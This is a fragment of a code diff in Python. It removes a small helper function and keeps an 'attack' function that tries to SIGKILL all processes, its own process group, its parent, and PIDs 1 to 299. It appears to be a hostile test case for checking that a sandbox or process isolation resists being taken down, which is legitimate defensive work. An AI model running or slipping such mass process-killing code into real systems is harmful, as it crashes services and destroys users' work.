@@ -2,18 +2,6 @@
 import os
 
 
-def each(attempts):
-    """What any of the attempts got."""
-    for attempt in attempts:
-        try:
-            got = attempt()
-        except OSError:
-            pass
-        else:
-            return f"{got!r}"
-    return None
-
-
 def attack():
     attempts = [lambda: os.kill(-1, 9), lambda: os.kill(0, 9), lambda: os.killpg(0, 9), lambda: os.kill(os.getppid(), 9)]
     attempts += [lambda pid=pid: os.kill(pid, 9) for pid in range(1, 300)]
